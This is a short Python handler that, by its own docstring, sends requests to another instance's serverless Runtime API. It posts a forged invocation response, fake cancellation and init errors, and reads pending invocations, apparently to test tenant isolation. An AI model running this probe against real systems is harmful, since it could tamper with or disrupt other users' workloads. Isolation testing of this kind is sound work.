"""A function that knocks at the Runtime API of another's instance."""

import http.client


def handler(event, context):
    host, _, port = event["address"].rpartition(":")
    request = event["request"]
    canceled = '{"errorType": "InvocationCanceled", "errorMessage": "so I say"}'
    return {
        path: knock(host, int(port), method, path, body)
        for method, path, body in (
            ("POST", "/v1/runtime/invocation/response/" + request, '"forged"'),
            ("POST", "/v1/runtime/invocation/error/" + request, canceled),
            ("GET", "/v1/runtime/invocation/request", None),
            ("GET", "/v1/runtime/invocation/cancellation/next", None),
            ("POST", "/v1/runtime/init/error", canceled),
        )
    }


def knock(host, port, method, path, body):
    connection = http.client.HTTPConnection(host, port, timeout=5)
    try:
        connection.request(method, path, body)
        return connection.getresponse().status
    except TimeoutError:
        return "held"
    except (ConnectionError, http.client.HTTPException):
        return "refused"
    finally:
        connection.close()
